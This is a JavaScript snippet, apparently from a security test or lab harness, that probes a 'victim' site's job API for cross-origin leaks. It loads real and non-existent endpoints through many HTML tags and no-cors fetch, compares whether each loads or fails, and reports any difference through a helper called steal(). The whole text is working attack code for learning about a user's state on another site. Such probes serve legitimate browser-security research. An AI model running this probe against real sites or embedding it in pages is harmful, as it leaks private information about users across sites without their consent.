// Is there such a job? What loads and what fails, and how, may differ.
const there = ["/api/jobs/victim", VICTIM, "/api/docs", "/api/openapi.json"];
const missing = ["/api/jobs/nobody", "/api/jobs/nobody/trigger", "/api/nothing", "/api/nothing.json"];
const ways = [
  ["img", "src"], ["script", "src"], ["object", "data"], ["embed", "src"], ["iframe", "src"], ["audio", "src"],
  ["link", "href", { rel: "stylesheet" }], ["link", "href", { rel: "prefetch" }],
  ["link", "href", { rel: "preload", as: "script" }], ["script", "src", { type: "module" }],
];
const how = (path, [tag, where, more]) =>
  embed(tag, { ...more, [where]: url(path) }, (element) => element.contentWindow?.length ?? "");
await all(ways, (way) =>
  all(there, async (path, number) => {
    const [one, other] = await all([path, missing[number]], (each) => how(each, way));
    const both = !(one + other).includes("nothing"); // silence is the machine's being busy
    if (both && one !== other) await steal(`${way[0]} tells ${path} (${one}) from ${missing[number]} (${other})`);
  }),
);
const fetched = (path) => fetch(url(path), { mode: "no-cors" }).then((answer) => answer.type, String);
for (const [number, path] of there.entries())
  if ((await fetched(path)) !== (await fetched(missing[number]))) await steal(`fetch tells ${path}`);
